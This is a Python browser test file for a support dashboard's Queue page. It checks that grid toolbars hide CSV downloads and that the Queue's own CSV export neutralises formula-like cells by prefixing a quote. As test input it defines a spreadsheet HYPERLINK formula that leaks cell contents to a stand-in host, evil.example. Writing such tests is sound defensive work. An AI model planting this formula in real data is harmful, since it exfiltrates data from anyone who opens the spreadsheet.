"""Downloads in a real Chromium: the grids' own toolbars offer none (they would write formulas raw); the
Queue's own CSV puts a ``'`` before a cell a spreadsheet would run (rules §8)."""

from __future__ import annotations

import csv
import io

import pytest

from kb.config import load_config
from kb.db import connection
from tests.fixtures import add, build_fixture
from tests.servers import dashboard_server, screenshot, wait_idle

pytestmark = pytest.mark.browser

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")'


@pytest.fixture
def queue_page(tmp_path, page):
    """The Queue of a local-mode server whose open cases include one with a formula for a subject."""
    db, config_file = build_fixture(tmp_path)
    con = connection.connect(db)
    add(con, load_config(config_file), "cases", dict(case_id="FORMULA", client_id="ENT", received_at="2026-11-24 11:00",
                                                     category="platform_issue", subject=FORMULA, assignee="-amy"))
    con.close()
    with dashboard_server({"SUPPORT_DB": str(db), "SUPPORT_CONFIG": str(config_file)},
                          log=tmp_path / "server.log") as base:
        page.goto(f"{base}/queue")
        wait_idle(page)
        assert page.locator("[data-testid=stException]").count() == 0
        yield page


def test_the_grids_toolbar_offers_no_download_but_keeps_search(queue_page):
    grid = queue_page.locator("[data-testid=stDataFrame]").first
    grid.hover()
    toolbar = queue_page.locator("[data-testid=stElementToolbar]").first
    toolbar.get_by_role("button", name="Search").wait_for(state="visible")
    screenshot(queue_page, "queue_grid_toolbar")
    assert queue_page.get_by_role("button", name="Download as CSV").count() == 0


def test_the_queue_download_neutralises_formulas(queue_page):
    with queue_page.expect_download() as download:
        queue_page.get_by_role("button", name="Download CSV").first.click()
    assert download.value.suggested_filename.startswith("queue-sla-")
    rows = list(csv.DictReader(io.StringIO(download.value.path().read_text())))
    formula = next(row for row in rows if row["case_id"] == "FORMULA")
    assert formula["subject"] == "'" + FORMULA
    assert formula["assignee"] == "'-amy"
    overdue = next(row for row in rows if row["case_id"] == "OVERDUE")
    assert float(overdue["business_hours_left"]) < 0  # long overdue: a number stays a number, sign and all
    assert overdue["business_hours_left"].startswith("-")
    assert formula["received_at"] == "2026-11-24T11:00:00+08:00"
    assert [row["case_id"] for row in rows][:2] == ["OVERDUE", "FORMULA"]  # the grid's order: next to breach first
